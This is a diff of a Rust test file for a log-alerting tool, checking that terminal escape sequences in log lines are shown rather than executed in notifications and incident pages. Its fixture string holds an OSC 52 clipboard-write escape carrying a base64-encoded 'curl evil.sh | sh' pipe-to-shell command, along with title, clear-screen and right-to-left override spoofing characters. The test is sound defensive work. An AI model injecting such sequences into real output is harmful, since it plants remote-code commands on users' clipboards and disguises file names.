@@ -7,10 +7,14 @@ fn line(time: &str, level: &str, msg: &str) -> String {
     format!("2026-11-22 {time}.000 | {level:<8} | app.worker:handle:10 - {msg}\n")
 }
 
-/// Escape sequences a stranger may put in a log line: an OSC 52 clipboard write, a
-/// title change, colour, clear screen, a bell, NUL, DEL, an 8-bit CSI, a right-to-left
+/// Escape sequences a stranger may put in a log line, all ASCII (so no header
+/// encoding hides them): an OSC 52 clipboard write, a title change, colour, clear
+/// screen, a bell, NUL and DEL.
+const NASTY: &str = "Disk \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 full \x1b]0;pwned\x07 \x1b[31mred\x1b[0m \x1b[2J bell\x07 nul\x00 del\x7f";
+
+/// Characters that make text read other than it is: an 8-bit CSI, a right-to-left
 /// override and a zero-width space.
-const NASTY: &str = "Disk \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 full \x1b]0;pwned\x07 \x1b[31mred\x1b[0m \x1b[2J bell\x07 nul\x00 del\x7f csi\u{9b}2J rtl\u{202e}gnp.exe zw\u{200b}sp";
+const NASTY_UNICODE: &str = "csi\u{9b}2J rtl\u{202e}gnp.exe zw\u{200b}sp";
 
 /// Bytes that must never reach a terminal, a header or a page from log or LLM text.
 fn assert_clean(what: &str, text: &str) {
@@ -42,7 +46,11 @@ fn a_control_character_in_a_critical_line_never_silences_alerting() {
         "app.log",
         format!(
             "{}{}",
-            line("10:05:00", "CRITICAL", "Database pool exhausted"),
+            line(
+                "10:05:00",
+                "CRITICAL",
+                &format!("Database pool exhausted {NASTY_UNICODE}")
+            ),
             line("10:05:01", "ERROR", "Payment provider timeout")
         )
         .as_bytes(),
@@ -56,12 +64,16 @@ fn a_control_character_in_a_critical_line_never_silences_alerting() {
     let m = ntfy.messages(); // no request broke ntfy's API: no control character in a header
     assert_eq!(m.len(), 3);
     let title = decode_rfc2047(m[0].header("Title").unwrap());
-    assert_clean("title", &title);
+    assert!(title.contains("Disk ␛]52;c;"), "shown, not hidden: {title}");
+    let title2 = decode_rfc2047(m[1].header("Title").unwrap());
     assert!(
-        title.contains("Disk ␛]52;c;") && title.contains("⟨U+202E⟩"),
-        "shown, not hidden: {title}"
+        title2.contains("rtl⟨U+202E⟩gnp"),
+        "shown, not hidden: {title2}"
     );
-    assert_clean("body", &m[0].body);
+    for n in &m {
+        assert_clean("title", &decode_rfc2047(n.header("Title").unwrap()));
+        assert_clean("body", &n.body);
+    }
     for f in t.incident_files() {
         assert_clean("page", &std::fs::read_to_string(&f).unwrap());
     }
@@ -70,7 +82,11 @@ fn a_control_character_in_a_critical_line_never_silences_alerting() {
         &["incidents"][..],
         &["incidents", "show", "1"],
         &["status", "--now", "2026-11-22T10:06:00Z"],
-        &["ignore", "test", &NASTY.replace('\0', "")],
+        &[
+            "ignore",
+            "test",
+            &format!("{}{NASTY_UNICODE}", NASTY.replace('\0', "")),
+        ],
         &["briefing"],
     ] {
         let r = t.ok(args);
